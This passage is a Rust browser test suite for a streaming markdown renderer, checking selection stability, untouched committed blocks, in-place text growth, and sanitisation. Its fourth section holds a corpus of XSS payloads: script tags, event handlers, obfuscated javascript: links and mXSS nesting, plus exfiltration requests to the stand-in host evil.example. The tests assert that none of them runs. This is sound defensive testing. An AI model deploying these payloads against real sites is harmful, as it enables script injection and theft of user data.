//! The incremental markdown engine's promises on the real DOM (design §2 promises 3–5, issue 6), driven through the
//! public `Renderer` API (`write` / `flush` / `finish`) in headless Chromium:
//!
//! 1. a user's live selection survives continued streaming;
//! 2. committed blocks receive zero mutations;
//! 3. text grows in place (text nodes are extended, not recreated);
//! 4. an XSS and exfiltration corpus streamed char by char is safe at every intermediate state, under each image policy;
//! 5. the speculative rendering rows of the README, on real DOM nodes;
//! 6. trusted mode (`unsafe: true`) matches the browser's parse of comrak's one-shot HTML.
//!
//! Browser-side helpers live in `tests/js/engine_fixtures.js` (selections, text-node counts, the safety scan, the
//! request detector, the trusted-mode oracle) and `tests/js/fixtures.js` (containers, outlines, mutation logs).

#![cfg(target_arch = "wasm32")]

use js_sys::{Array, Object, Promise, Reflect};
use rillmark::markdown::render::comrak_options;
use rillmark::options::RenderOptions;
use rillmark::patch::{PatchOp, PatchSink, ROOT};
use rillmark::web::apply::{DomApplier, SEGMENT_UNITS};
use rillmark::web::Renderer;
use wasm_bindgen::prelude::*;
use wasm_bindgen_futures::JsFuture;
use wasm_bindgen_test::*;
use web_sys::{Element, Node};

wasm_bindgen_test_configure!(run_in_browser);

mod web_support;
use web_support::*;

#[wasm_bindgen(module = "/tests/js/engine_fixtures.js")]
extern "C" {
    #[wasm_bindgen(js_name = countTextNodes)]
    fn count_text_nodes(root: &Element) -> u32;
    #[wasm_bindgen(js_name = findText)]
    fn find_text(root: &Element, needle: &str) -> Option<Node>;

    type TextInsertionLog;
    #[wasm_bindgen(constructor)]
    fn new(target: &Element) -> TextInsertionLog;
    #[wasm_bindgen(method)]
    fn take(this: &TextInsertionLog) -> u32;
    #[wasm_bindgen(method)]
    fn removed(this: &TextInsertionLog, n: u32) -> String;
    #[wasm_bindgen(method)]
    fn disconnect(this: &TextInsertionLog);

    type SelectionProbe;
    #[wasm_bindgen(constructor)]
    fn new(root: &Element, word: &str) -> SelectionProbe;
    #[wasm_bindgen(static_method_of = SelectionProbe)]
    fn across(root: &Element, start_word: &str, end_word: &str) -> SelectionProbe;
    #[wasm_bindgen(method, getter)]
    fn selected(this: &SelectionProbe) -> String;
    #[wasm_bindgen(method)]
    fn check(this: &SelectionProbe) -> String;
    #[wasm_bindgen(method)]
    fn clear(this: &SelectionProbe);

    type ChildMoveLog;
    #[wasm_bindgen(constructor)]
    fn new(parent: &Element) -> ChildMoveLog;
    #[wasm_bindgen(method)]
    fn watch(this: &ChildMoveLog, node: &Element);
    #[wasm_bindgen(method)]
    fn take(this: &ChildMoveLog) -> u32;

    #[wasm_bindgen(js_name = unsafeNodes)]
    fn unsafe_nodes(root: &Element, image_policy: &str) -> String;
    #[wasm_bindgen(js_name = xssFlag)]
    fn xss_flag() -> String;
    #[wasm_bindgen(js_name = installRequestDetector)]
    fn install_request_detector(allowed_image_origins: &Array);
    #[wasm_bindgen(js_name = requestsTo)]
    fn requests_to(needle: &str) -> u32;
    #[wasm_bindgen(js_name = loadImage)]
    fn load_image(url: &str) -> Promise;

    #[wasm_bindgen(js_name = unwrapHolders)]
    fn unwrap_holders(root: &Element) -> Element;
    #[wasm_bindgen(js_name = parsedHtml)]
    fn parsed_html(html: &str) -> Element;
    #[wasm_bindgen(js_name = countHolders)]
    fn count_holders(root: &Element) -> u32;
}

// ----------------------------------------------------------------------------------------------------------------
// Helpers

fn set(object: &Object, key: &str, value: &JsValue) {
    Reflect::set(object, &JsValue::from_str(key), value).unwrap();
}

/// `finish()`, which should end the written answer with a verified finish that repaired nothing
/// (`finishRepairs`: the streamed DOM already equalled one parse of the whole text).
#[track_caller]
fn finish_verified(r: &Renderer) -> JsValue {
    let outcome = r.finish().expect("finish() should end the written answer");
    let repairs = Reflect::get(&outcome, &"finishRepairs".into()).unwrap_or(JsValue::UNDEFINED).as_f64();
    assert_eq!(repairs, Some(0.0), "the verified finish should repair nothing");
    outcome
}

fn new_renderer(container: &Element, options: JsValue) -> Renderer {
    Renderer::new(container.clone().into(), options).unwrap_or_else(|error| {
        let message = Reflect::get(&error, &"message".into()).unwrap_or(JsValue::UNDEFINED);
        panic!("new Renderer() should succeed, got {message:?}")
    })
}

/// A renderer with default options drawing into a fresh container.
fn renderer() -> (Element, Renderer) {
    renderer_with(JsValue::UNDEFINED)
}

fn renderer_with(options: JsValue) -> (Element, Renderer) {
    let container = make_container();
    let renderer = new_renderer(&container, options);
    (container, renderer)
}

/// `{ unsafe: true }`: trusted content.
fn trusted() -> JsValue {
    let options = Object::new();
    set(&options, "unsafe", &true.into());
    options.into()
}

/// `{ images }`: `"block"`, `"allow"`, or a list of origins.
fn images_option(policy: &ImagesOption) -> JsValue {
    let options = Object::new();
    match policy {
        ImagesOption::Named(name) => set(&options, "images", &JsValue::from_str(name)),
        ImagesOption::Origins(origins) => {
            let list: Array = origins.iter().map(|o| JsValue::from_str(o)).collect();
            set(&options, "images", &list);
        }
    }
    options.into()
}

enum ImagesOption {
    Named(&'static str),
    Origins(&'static [&'static str]),
}

/// `write(piece)` then `flush()`: the piece is on screen when this returns.
fn write_flush(r: &Renderer, piece: &str) {
    r.write(piece).expect("write() should accept markdown");
    r.flush();
}

/// Renders `text` in one `write` + `finish` into a fresh container with `options`: the one-shot render.
fn one_shot(text: &str, options: JsValue) -> Element {
    let (container, r) = renderer_with(options);
    r.write(text).unwrap();
    finish_verified(&r);
    container
}

async fn settle_frames() {
    JsFuture::from(quiesce(3, 50)).await.expect("quiesce should not reject");
}

fn child(container: &Element, index: u32) -> Element {
    let mut element = container.first_element_child();
    for _ in 0..index {
        element = element.and_then(|e| e.next_element_sibling());
    }
    element.unwrap_or_else(|| panic!("the container should have a child #{index}: {}", outline(container)))
}

// ----------------------------------------------------------------------------------------------------------------
// 1. A live selection survives streaming

/// Pieces that keep the first paragraph growing, then start new paragraphs, a list and a code fence.
const AFTER_THE_FOX: [&str; 16] = [
    " jumps",
    " over the",
    " lazy dog.",
    " Then **bold",
    " words** and `co",
    "de` too",
    " and a [link](https://exa",
    "mple.com/) here.",
    "\n\nA second paragraph",
    " grows.\n\n",
    "- one\n",
    "- two\n\n",
    "```rust\nfn main() {\n",
    "    println!(\"hi\");\n",
    "}\n```\n\n",
    "The end.",
];

#[wasm_bindgen_test]
fn a_selection_in_the_open_paragraph_survives_streaming() {
    let (container, r) = renderer();
    write_flush(&r, "The quick brown fox");
    let probe = SelectionProbe::new(&container, "quick");
    assert_eq!(probe.selected(), "quick", "the probe should select the word");
    assert_eq!(probe.check(), "", "the fresh selection should check out");
    let mut so_far = String::from("The quick brown fox");
    for piece in AFTER_THE_FOX {
        write_flush(&r, piece);
        so_far.push_str(piece);
        assert_eq!(probe.check(), "", "the selection of \"quick\" should survive streaming, after {so_far:?}");
    }
    finish_verified(&r);
    assert_eq!(probe.check(), "", "the selection should survive finish()");
    assert_eq!(
        outline(&child(&container, 0)),
        r#""The quick brown fox jumps over the lazy dog. Then " strong("bold words") " and " code("code") " too and a " a[href="https://example.com/" rel="noopener noreferrer"]("link") " here.""#,
        "the first paragraph should be fully rendered"
    );
    probe.clear();
}

#[wasm_bindgen_test]
fn a_selection_at_the_growing_end_of_the_open_paragraph_survives_streaming() {
    // The selected word is the last one on screen: the text node it is in is the one being extended.
    let (container, r) = renderer();
    write_flush(&r, "Streaming ends with tail");
    let probe = SelectionProbe::new(&container, "tail");
    let mut so_far = String::from("Streaming ends with tail");
    for piece in [" and", " more", " words", " *then", " emphasis*", ".\n\nNext", " block."] {
        write_flush(&r, piece);
        so_far.push_str(piece);
        assert_eq!(probe.check(), "", "the selection of the last word should survive, after {so_far:?}");
    }
    finish_verified(&r);
    assert_eq!(probe.check(), "", "the selection should survive finish()");
    probe.clear();
}

#[wasm_bindgen_test]
fn selections_inside_committed_blocks_survive_later_streaming() {
    let (container, r) = renderer();
    write_flush(&r, "First paragraph with **strong words** inside.\n\n");
    write_flush(&r, "- alpha item\n- beta item\n\n```\nlet committed = true;\n```\n\nOpen");

    // A word in a committed paragraph.
    let probe = SelectionProbe::new(&container, "paragraph");
    for piece in [" paragraph", " streams", " on.\n\n", "## Heading", "\n\n- new list\n", "- more\n"] {
        write_flush(&r, piece);
        assert_eq!(probe.check(), "", "a selection in the committed first paragraph should survive {piece:?}");
    }

    // Across an element boundary in the same committed paragraph: from "with" into the <strong>.
    let probe = SelectionProbe::across(&container, "with", "strong");
    assert_eq!(probe.selected(), "with strong", "the cross-element selection should cover its text");
    for piece in ["\nLazy", " continuation", "\n\nAnother", " paragraph.\n\n"] {
        write_flush(&r, piece);
        assert_eq!(probe.check(), "", "a cross-element selection in a committed block should survive {piece:?}");
    }

    // Inside a committed list item and inside a committed code block.
    for word in ["beta", "committed"] {
        let probe = SelectionProbe::new(&container, word);
        for piece in ["More ", "text", " here.\n\n", "```\ncode ", "streams\n", "```\n"] {
            write_flush(&r, piece);
            assert_eq!(probe.check(), "", "a selection of {word:?} in a committed block should survive {piece:?}");
        }
    }
    finish_verified(&r);
    let probe = SelectionProbe::new(&container, "alpha");
    assert_eq!(probe.check(), "", "selecting after finish() should work");
    probe.clear();
}

#[wasm_bindgen_test]
fn a_selection_survives_a_wrong_speculation_being_undone() {
    // The open tail speculates (`**kwargs` as bold, `[0` as a pending link); when later text proves it wrong, the fix-up
    // should not disturb a selection in the text before it.
    let cases: [(&str, &str, &[&str]); 4] = [
        ("Values are", "Values", &[" [0", "]", " and more."]),
        ("Use the", "Use", &[" **kwargs", " in python", " code."]),
        ("See the", "See", &[" [docs", "] in brackets."]),
        ("Math like", "Math", &[" 2 *", " 3 *", " 4 is fine."]),
    ];
    for (start, word, pieces) in cases {
        let (container, r) = renderer();
        write_flush(&r, start);
        let probe = SelectionProbe::new(&container, word);
        let mut so_far = start.to_owned();
        for piece in pieces {
            write_flush(&r, piece);
            so_far.push_str(piece);
            assert_eq!(
                probe.check(),
                "",
                "the selection of {word:?} should survive, after {so_far:?}: {}",
                outline(&container)
            );
        }
        finish_verified(&r);
        assert_eq!(probe.check(), "", "the selection of {word:?} should survive finish() of {so_far:?}");
        probe.clear();
    }
}

#[wasm_bindgen_test]
fn selections_inside_open_lists_tables_and_fences_survive_their_growth() {
    // Each block is still open (the engine resumes inside it) while the selected text sits in an earlier item, row or
    // line of the same block.
    let cases: [(&str, &str, &[&str]); 4] = [
        ("- alpha item\n- beta", "alpha", &[" item\n", "- gamma", " item\n", "- delta **strong", "** item\n"]),
        (
            "| h1 | h2 |\n|---|---|\n| first cell | x |\n",
            "first",
            &["| second", " cell | y |\n", "| third | z |\n", "| fourth |"],
        ),
        ("```python\nfirst_line = 1\n", "first_line", &["second_line", " = 2\n", "third = 3\n", "``"]),
        ("> quoted words here\n> more", "words", &[" quoted\n", "> and more\n", ">\n> second para"]),
    ];
    for (start, word, pieces) in cases {
        let (container, r) = renderer();
        write_flush(&r, start);
        let probe = SelectionProbe::new(&container, word);
        assert_eq!(probe.check(), "", "{start:?}: the fresh selection of {word:?} should check out");
        let mut so_far = start.to_owned();
        for piece in pieces {
            write_flush(&r, piece);
            so_far.push_str(piece);
            assert_eq!(
                probe.check(),
                "",
                "the selection of {word:?} should survive, after {so_far:?}: {}",
                outline(&container)
            );
        }
        finish_verified(&r);
        assert_eq!(probe.check(), "", "the selection of {word:?} should survive finish() of {so_far:?}");
        probe.clear();
    }
}

// ----------------------------------------------------------------------------------------------------------------
// 2. Committed blocks receive zero mutations

#[wasm_bindgen_test]
fn committed_blocks_receive_zero_mutations_while_later_blocks_stream_and_finish() {
    let (container, r) = renderer();
    write_flush(
        &r,
        "Intro paragraph with *emphasis*, `code`, a [link](https://example.com/) and www.example.com.\n\n\
         - first item\n- second **item**\n  - nested\n\n\
         Next paragraph",
    );
    let first = child(&container, 0);
    let list = child(&container, 1);
    assert_eq!(first.local_name(), "p", "block 0 should be the intro paragraph: {}", outline(&container));
    assert_eq!(list.local_name(), "ul", "block 1 should be the list: {}", outline(&container));
    let (first_log, list_log) = (MutationLog::new(&first), MutationLog::new(&list));
    let moves = ChildMoveLog::new(&container);
    moves.watch(&first);
    moves.watch(&list);

    let pieces = [
        " keeps",
        " streaming with **bold",
        "** text.\n\n",
        "1. ordered\n",
        "2. list\n\n",
        "> a quote\n",
        "> continues\n\n",
        "| a | b |\n",
        "|---|---|\n",
        "| 1 | 2 |\n\n",
        "```js\nconst x = 1;\n",
        "```\n\n",
        "Last **words",
        "**.",
    ];
    let mut second: Option<(Element, MutationLog)> = None;
    let mut so_far = String::new();
    for piece in pieces {
        write_flush(&r, piece);
        so_far.push_str(piece);
        assert_eq!(first_log.take(), 0, "the committed first paragraph should not be touched by {so_far:?}");
        assert_eq!(list_log.take(), 0, "the committed list should not be touched by {so_far:?}");
        assert_eq!(moves.take(), 0, "committed blocks should not be removed or re-inserted by {so_far:?}");
        if let Some((_, log)) = &second {
            assert_eq!(log.take(), 0, "the committed second paragraph should not be touched by {so_far:?}");
        } else if so_far.contains("1. ordered\n") {
            // "Next paragraph keeps streaming…" is final once the ordered list has started on a complete line.
            let p = child(&container, 2);
            assert_eq!(p.local_name(), "p", "block 2 should be the second paragraph: {}", outline(&container));
            moves.watch(&p);
            let log = MutationLog::new(&p);
            second = Some((p, log));
        }
    }
    finish_verified(&r);
    assert_eq!(first_log.take(), 0, "finish() should not touch the committed first paragraph");
    assert_eq!(list_log.take(), 0, "finish() should not touch the committed list");
    let (second_p, second_log) = second.expect("the second paragraph should have been committed");
    assert_eq!(second_log.take(), 0, "finish() should not touch the committed second paragraph");
    assert_eq!(moves.take(), 0, "finish() should not remove or re-insert committed blocks");
    assert!(child(&container, 0).is_same_node(Some(&first)), "the first paragraph should be the same node");
    assert!(child(&container, 1).is_same_node(Some(&list)), "the list should be the same node");
    assert!(child(&container, 2).is_same_node(Some(&second_p)), "the second paragraph should be the same node");
    assert_eq!(
        outline(&container),
        outline(&one_shot(&r.text(), JsValue::UNDEFINED)),
        "the final DOM should equal the one-shot render"
    );
    first_log.disconnect();
    list_log.disconnect();
    second_log.disconnect();
}

#[wasm_bindgen_test]
fn a_late_reference_definition_patches_the_committed_paragraph_in_place() {
    // Promise 3's one allowed change to committed text: a definition arriving after its use turns the earlier text
    // into a link by patching those nodes, not by recreating the block.
    let (container, r) = renderer();
    write_flush(&r, "See the [docs] for more.\n\nA later paragraph.\n\n");
    let first = child(&container, 0);
    let see = find_text(&container, "See the").expect("the first paragraph's text should be on screen");
    let probe = SelectionProbe::new(&container, "See");
    for piece in ["[docs]: https://exa", "mple.com/docs\n", "\nTail."] {
        write_flush(&r, piece);
    }
    finish_verified(&r);
    assert!(child(&container, 0).is_same_node(Some(&first)), "the paragraph should be the same node");
    assert_eq!(
        outline(&first),
        r#""See the " a[href="https://example.com/docs" rel="noopener noreferrer"]("docs") " for more.""#,
        "the reference should have become a link"
    );
    assert!(see.is_connected(), "the text before the link should be the same text node");
    assert_eq!(probe.check(), "", "a selection in the paragraph's unchanged text should survive the patch");
    probe.clear();
}

// ----------------------------------------------------------------------------------------------------------------
// 3. Text grows in place

/// A long plain paragraph: `n` words.
fn plain_words(n: usize) -> Vec<String> {
    const WORDS: [&str; 12] =
        ["stream", "tokens", "arrive", "one", "by", "one", "and", "the", "reader", "keeps", "reading", "calmly"];
    (0..n).map(|i| if i == 0 { "Start".to_owned() } else { format!(" {}", WORDS[i % WORDS.len()]) }).collect()
}

#[wasm_bindgen_test]
fn a_plain_paragraph_extends_its_one_text_node_word_by_word() {
    let (container, r) = renderer();
    let insertions = TextInsertionLog::new(&container);
    let words = plain_words(500);
    write_flush(&r, &words[0]);
    let node = find_text(&container, "Start").expect("the first word should be on screen");
    let mut shown = words[0].clone();
    for (index, word) in words.iter().enumerate().skip(1) {
        write_flush(&r, word);
        shown.push_str(word);
        // Prose is never split: in Chromium an append to a long paragraph costs twice as much when its text is in
        // several nodes (src/web/apply.rs).
        assert_eq!(count_text_nodes(&container), 1, "the paragraph should stay one text node after word {index}");
        assert_eq!(insertions.take(), 1, "after word {index}, the text node should only be extended, never recreated");
        assert!(node.is_connected(), "the first text node should still be the paragraph after word {index}");
    }
    assert!(shown.len() as u32 > 2 * SEGMENT_UNITS, "the paragraph should be long enough to be split if it were code");
    finish_verified(&r);
    assert!(node.is_connected(), "the original text node should survive finish()");
    assert_eq!(node.text_content().unwrap_or_default(), shown, "the text node should hold the whole paragraph");
    assert_eq!(insertions.take(), 1, "finish() should recreate no text node");
    insertions.disconnect();
}

#[wasm_bindgen_test]
fn a_long_code_block_grows_in_bounded_text_nodes() {
    let (container, r) = renderer();
    let insertions = TextInsertionLog::new(&container);
    let mut source = String::from("```rust\n");
    write_flush(&r, &source);
    let mut code = String::new();
    for n in 0..150 {
        let line = format!("let value_{n} = compute({n}); // 😀\n");
        // Token-like pieces, so the last text node is extended many times per line.
        for piece in line.split_inclusive(' ') {
            write_flush(&r, piece);
        }
        source.push_str(&line);
        code.push_str(&line);
        let units = code.encode_utf16().count() as u32;
        let nodes = count_text_nodes(&container);
        // Extended up to SEGMENT_UNITS, then continued in a new node: each but the last holds ≥ SEGMENT_UNITS.
        assert!(
            nodes <= units / SEGMENT_UNITS + 1,
            "{units} code units of code should be in at most {} text nodes after line {n}, found {nodes}",
            units / SEGMENT_UNITS + 1
        );
        assert_eq!(insertions.take(), nodes, "after line {n}, text nodes should only be added, never recreated");
    }
    assert!(count_text_nodes(&container) >= 3, "a {}-unit code block should span several text nodes", code.len());
    write_flush(&r, "```\n");
    finish_verified(&r);
    let block = child(&container, 0);
    assert_eq!(block.node_name(), "PRE");
    assert_eq!(block.text_content().unwrap_or_default(), code, "the text nodes should hold the whole code block");
    assert_eq!(insertions.take(), count_text_nodes(&container), "finish() should recreate no text node");
    insertions.disconnect();
}

#[wasm_bindgen_test]
fn text_edits_reach_across_the_segments_of_a_long_text() {
    let container = make_container();
    let document = web_sys::window().unwrap().document().unwrap();
    let mut applier = DomApplier::new(document, &container, &rillmark::options::RenderOptions::default());
    let (pre, code, text) = (1, 2, 3);
    let mut model = String::from("start ");
    applier.apply(&[
        PatchOp::CreateElement { id: pre, tag: "pre" },
        PatchOp::CreateElement { id: code, tag: "code" },
        PatchOp::CreateText { id: text, text: model.clone() },
        PatchOp::Append { parent: code, child: text },
        PatchOp::Append { parent: pre, child: code },
        PatchOp::Append { parent: ROOT, child: pre },
    ]);
    // Words with a two-unit emoji, so offsets count UTF-16 code units as the DOM does.
    for n in 0..600 {
        let word = if n % 7 == 0 { "😀 ".to_owned() } else { format!("w{n} ") };
        model.push_str(&word);
        applier.apply(&[PatchOp::AppendText { id: text, text: word }]);
    }
    assert!(count_text_nodes(&container) >= 3, "{} code units should span several segments", model.len());
    let utf16 = |s: &str| s.encode_utf16().count() as u32;
    // Edits that start, end and lie inside segments, and one that spans all of them.
    for (from_char, chars, with) in
        [(1020, 10, "[edited]"), (2500, 5, "Y"), (5, 0, "inserted "), (10, 3000, "X"), (0, 4000, "all")]
    {
        let from: usize = model.chars().take(from_char).map(char::len_utf8).sum();
        let to = from + model[from..].chars().take(chars).map(char::len_utf8).sum::<usize>();
        let (start, delete) = (utf16(&model[..from]), utf16(&model[from..to]));
        model.replace_range(from..to, with);
        applier.apply(&[PatchOp::ReplaceText { id: text, start, delete, text: with.to_owned() }]);
        assert_eq!(container.text_content().unwrap_or_default(), model, "after replacing {chars} chars at {from_char}");
        applier.apply(&[PatchOp::AppendText { id: text, text: " more".into() }]);
        model.push_str(" more");
        assert_eq!(container.text_content().unwrap_or_default(), model, "after appending to the edited text");
    }
    // Replacing or removing the text takes all its segments with it.
    applier.apply(&[
        PatchOp::CreateText { id: 4, text: "new".into() },
        PatchOp::Replace { old: text, new: 4 },
        PatchOp::Release { id: text },
    ]);
    assert_eq!(container.text_content().unwrap_or_default(), "new");
    assert_eq!(count_text_nodes(&container), 1);
}

/// A long paragraph with inline formatting, split word by word (markers land in separate writes).
fn mixed_paragraph() -> String {
    let mut text = String::new();
    for i in 0..40 {
        match i % 5 {
            0 => text.push_str("plain words go by here "),
            1 => text.push_str("then **strong text here** and "),
            2 => text.push_str("some `inline code` plus "),
            3 => text.push_str("a [link label](https://example.com/page) and *emphasis too* "),
            _ => text.push_str("and ~~struck~~ text with snake_case_names "),
        }
    }
    text.push_str("end.");
    text
}

/// Splits `text` into words with their leading space.
fn words_of(text: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut start = 0;
    for (at, ch) in text.char_indices() {
        if ch == ' ' && at > start {
            words.push(&text[start..at]);
            start = at;
        }
    }
    words.push(&text[start..]);
    words
}

/// Text-node counts of one streamed render against the one-shot render of the same text.
struct TextCounts {
    /// Text nodes after streaming and `finish()`.
    streamed: u32,
    /// Text nodes of the one-shot render.
    oneshot: u32,
    /// Text nodes ever inserted while streaming.
    inserted: u32,
    /// The most text nodes seen after any flush.
    max_seen: u32,
    /// Which text nodes were taken out again, for failure messages.
    removed: String,
}

impl TextCounts {
    /// Asserts the counts stay within 1.2× of the one-shot render's text-node count.
    #[track_caller]
    fn assert_within_1_2x(&self) {
        let (streamed, oneshot, inserted, max_seen) = (self.streamed, self.oneshot, self.inserted, self.max_seen);
        let limit = 1.2 * f64::from(oneshot);
        assert!(
            f64::from(streamed) <= limit && f64::from(oneshot) <= 1.2 * f64::from(streamed),
            "text nodes after streaming ({streamed}) should be within 1.2× of the one-shot render's ({oneshot})"
        );
        assert!(
            f64::from(max_seen) <= limit,
            "text nodes mid-stream (max {max_seen}) should stay within 1.2× of the final count ({oneshot})"
        );
        assert!(
            f64::from(inserted) <= limit,
            "text nodes ever inserted ({inserted}) should be within 1.2× of the final count ({oneshot}): text should \
             be extended in place, not recreated; {}",
            self.removed
        );
    }
}

/// Streams `text` word by word with a flush after each and counts text nodes (see [`TextCounts`]); the final DOM
/// must equal the one-shot render.
fn stream_and_count(text: &str) -> TextCounts {
    let (container, r) = renderer();
    let insertions = TextInsertionLog::new(&container);
    let mut max_seen = 0;
    for word in words_of(text) {
        write_flush(&r, word);
        insertions.take();
        max_seen = max_seen.max(count_text_nodes(&container));
    }
    finish_verified(&r);
    let oneshot = one_shot(text, JsValue::UNDEFINED);
    assert_eq!(outline(&container), outline(&oneshot), "the streamed DOM should equal the one-shot render");
    let counts = TextCounts {
        streamed: count_text_nodes(&container),
        oneshot: count_text_nodes(&oneshot),
        inserted: insertions.take(),
        max_seen,
        removed: insertions.removed(40),
    };
    insertions.disconnect();
    counts
}

#[wasm_bindgen_test]
fn a_formatted_paragraph_keeps_its_text_nodes_while_streaming() {
    stream_and_count(&mixed_paragraph()).assert_within_1_2x();
}

#[wasm_bindgen_test]
fn a_streamed_document_has_about_as_many_text_nodes_as_the_one_shot_render() {
    let document = "# A document\n\nIntro with **bold** and `code` and a [link](https://example.com/).\n\n\
                    - item one has words\n- item two has **more** words\n  - nested item\n\n\
                    1. first\n2. second\n\n> quoted text that\n> continues here\n\n\
                    ```rust\nfn main() {\n    println!(\"hello\");\n}\n```\n\n\
                    | col a | col b |\n|---|:-:|\n| 1 | two |\n| 3 | *four* |\n\n\
                    Closing paragraph with ~~strike~~ and www.example.com and snake_case.\n";
    stream_and_count(document).assert_within_1_2x();
}

// ----------------------------------------------------------------------------------------------------------------
// 4. XSS and exfiltration corpus, char by char

/// Every form of script injection and data exfiltration we know of, one paragraph or block per line. Payloads that
/// would run set `window.__rillmarkEngineXss`; exfiltration targets `evil.example`.
const XSS_CORPUS: &[&str] = &[
    "Intro text.\n\n",
    "<script>window.__rillmarkEngineXss = 'script block'</script>\n\n",
    "Inline <script>window.__rillmarkEngineXss = 'script inline'</script> here.\n\n",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n\n",
    "<iframe src=\"https://evil.example/frame?q=secret\"></iframe>\n\n",
    "<svg onload=\"window.__rillmarkEngineXss = 'svg'\"><circle r=\"1\"/></svg>\n\n",
    "<img src=x onerror=\"window.__rillmarkEngineXss = 'img'\">\n\n",
    "Inline <img src=\"https://evil.example/inline.png?q=secret\" onerror=\"window.__rillmarkEngineXss='img2'\"> img.\n\n",
    "<a href=\"javascript:window.__rillmarkEngineXss='a'\">raw anchor</a>\n\n",
    "<div onclick=\"window.__rillmarkEngineXss='div'\" onmouseover=\"x()\">hover me</div>\n\n",
    "Text <b onmouseover=\"window.__rillmarkEngineXss='b'\">bold</b> <span style=\"background:url(https://evil.example/s)\">s</span>\n\n",
    "<style>@import url(https://evil.example/style.css);</style>\n\n",
    "<link rel=stylesheet href=https://evil.example/link.css>\n\n",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/meta\">\n\n",
    "<form action=https://evil.example/form><input name=q value=secret><button>go</button></form>\n\n",
    "<object data=\"https://evil.example/object\"></object><embed src=\"https://evil.example/embed\">\n\n",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__rillmarkEngineXss='mxss'\"></style></mglyph></table></mtext></math>\n\n",
    "<video src=https://evil.example/v.mp4 onerror=\"window.__rillmarkEngineXss='video'\"></video>\n\n",
    "[a](javascript:window.__rillmarkEngineXss='link') [b](JaVaScRiPt:alert(1)) [c](<java\tscript:alert(1)>)\n\n",
    "[d](&#106;avascript:alert(1)) [e](&#x6A;&#x61;vascript:alert(1)) [f](java&#x09;script:alert(1))\n\n",
    "[g](java&Tab;script:alert(1)) [h](&#1;javascript:alert(1)) [i](javascript&colon;alert(1))\n\n",
    "[j](%6Aavascript:alert(1)) [k](vbscript:msgbox(1)) [l](VBScript:msgbox(1))\n\n",
    "[m](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [n](DATA:text/html,<b>x</b>)\n\n",
    "[o](https://example.com/\"onmouseover=\"alert(1)) [p](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")\n\n",
    "[ref1] [ref2][] [Ref3][ref3] [ref4]\n\n",
    "[ref1]: javascript:window.__rillmarkEngineXss='ref'\n",
    "[ref2]: <vbscript:msgbox(1)>\n",
    "[ref3]: DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E\n",
    "[ref4]: &#106;avascript:alert(1)\n\n",
    "Autolinks <javascript:alert(1)> <JAVASCRIPT:alert(1)> <vbscript:msgbox(1)> <data:text/html,x>.\n\n",
    "Autolinks <https://evil.example/ok> and www.evil.example/ok and https://evil.example/bare.\n\n",
    "![x](https://evil.example/?q=secret) ![y][img] ![z](javascript:alert(1)) ![w](data:image/png;base64,AAAA)\n\n",
    "[![nested](https://evil.example/nested.png?q=secret)](https://example.com/) ![v](//evil.example/proto-relative.png)\n\n",
    "[img]: https://evil.example/reference.png?q=secret\n\n",
    "<!-- <script>window.__rillmarkEngineXss='comment'</script> -->\n\n",
    "Inline <!-- <img src=x onerror=alert(1)> --> comment.\n\n",
    "<![CDATA[<script>window.__rillmarkEngineXss='cdata'</script>]]>\n\n",
    "<?php echo 1; ?> and <!DOCTYPE html>\n\n",
    "- [ ] task one\n- [x] task two <img src=x onerror=alert(1)>\n\n",
    "| <img src=x onerror=alert(1)> | [t](javascript:alert(1)) |\n|---|---|\n| <script>x</script> | ![c](https://evil.example/cell.png) |\n\n",
    "Footnote[^1].\n\n[^1]: [fn](javascript:alert(1)) ![f](https://evil.example/fn.png)\n\n",
    "> <iframe src=https://evil.example/q></iframe> [q](javascript:alert(1))\n\n",
    "```html\n<script>window.__rillmarkEngineXss='fence'</script>\n```\n\n",
    "Unclosed <img src=x onerror=\"window.__rillmarkEngineXss='unclosed'\" and <a href=\"javascript:alert(1)\n\n",
    "<scr",
    "ipt>window.__rillmarkEngineXss='split'</scr",
    "ipt>\n\nEnd <img src=https://evil.example/end.png",
];

/// Streams `corpus` one character at a time with a flush after each, checking every intermediate DOM; then finishes
/// and checks the final DOM (after letting any load or error event fire).
async fn stream_corpus_char_by_char(corpus: &str, options: JsValue, image_policy: &str) -> Element {
    install_request_detector(&Array::of1(&"https://cdn.example".into()));
    let (container, r) = renderer_with(options);
    for (at, ch) in corpus.char_indices() {
        let end = at + ch.len_utf8();
        write_flush(&r, &corpus[at..end]);
        let problems = unsafe_nodes(&container, image_policy);
        assert!(problems.is_empty(), "after {} chars ({:?}…): unsafe DOM: {problems}", end, tail(&corpus[..end]));
        assert_eq!(xss_flag(), "", "no payload should have run after {:?}", tail(&corpus[..end]));
        assert_eq!(
            requests_to("evil.example"),
            0,
            "no request should leave for evil.example after {:?}",
            tail(&corpus[..end])
        );
    }
    finish_verified(&r);
    settle_frames().await;
    let problems = unsafe_nodes(&container, image_policy);
    assert!(problems.is_empty(), "the final DOM is unsafe: {problems}");
    assert_eq!(xss_flag(), "", "no payload should have run");
    assert_eq!(requests_to("evil.example"), 0, "no request should ever have left for evil.example");
    container
}

/// The last 60 characters of `text`, for failure messages.
fn tail(text: &str) -> &str {
    let start = text.char_indices().rev().nth(59).map_or(0, |(at, _)| at);
    &text[start..]
}

#[wasm_bindgen_test]
async fn the_request_detector_sees_a_blocked_image_request() {
    // Positive control: the detector used below must see an image request that fails (closed network, CSP).
    install_request_detector(&Array::of1(&"https://cdn.example".into()));
    assert_eq!(requests_to("detector-control.invalid"), 0, "nothing should have asked for the control host yet");
    JsFuture::from(load_image("https://detector-control.invalid/pixel.png?q=1")).await.unwrap();
    assert!(requests_to("detector-control.invalid") >= 1, "the detector should see the control image request");
}

#[wasm_bindgen_test]
async fn the_xss_corpus_streamed_char_by_char_is_safe_at_every_step_with_default_options() {
    let corpus = XSS_CORPUS.concat();
    let container = stream_corpus_char_by_char(&corpus, JsValue::UNDEFINED, "block").await;
    assert_eq!(count_selector(&container, "img"), 0, "images are blocked by default");
    assert!(count_selector(&container, ".rillmark-image") >= 4, "blocked images should leave visible placeholders");
    assert_eq!(count_selector(&container, "input[type=checkbox][disabled]"), 2, "task lists keep their checkboxes");
    let text = container.text_content().unwrap_or_default();
